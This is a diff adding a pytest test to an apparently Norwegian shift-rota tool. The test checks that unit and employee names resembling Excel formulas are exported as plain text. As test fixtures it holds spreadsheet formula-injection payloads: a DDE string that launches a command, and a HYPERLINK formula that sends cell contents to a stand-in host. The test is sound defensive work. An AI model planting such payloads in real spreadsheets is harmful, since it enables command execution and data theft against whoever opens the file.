@@ -590,3 +590,26 @@ def test_scenarios_run_prices_the_today_it_is_given(tmp_path: Path) -> None:
     rota = read_rota(turnus, unit)
     assert today["kpis"]["annual_cost"] == pytest.approx(cost(unit, rota).total)
     assert [p["reason"] for p in fewer["removed_positions"]] == ["proposal", "proposal"]
+
+
+def test_names_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
+    """A unit, employee and name that look like Excel formulas come out of `rota solve` as
+    text: no cell of the rota workbook holds a formula, and the names are there as given."""
+    data = two_shift_unit()
+    data["name"] = "=cmd|' /C calc'!A0"
+    data["employees"][0]["name"] = '=HYPERLINK("http://x.example/?leak="&A1,"Klikk")'
+    data["employees"][1]["id"] = "@SUM(A1:A9)"
+    source = tmp_path / "ond.yaml"
+    source.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    book = tmp_path / "turnus.xlsx"
+    result = run("solve", str(source), "-o", str(book), *SOLVE_FLAGS)
+    assert result.exit_code == 0, result.output
+    workbook = load_workbook(book)
+    texts = set()
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+    assert any("=HYPERLINK" in text for text in texts)
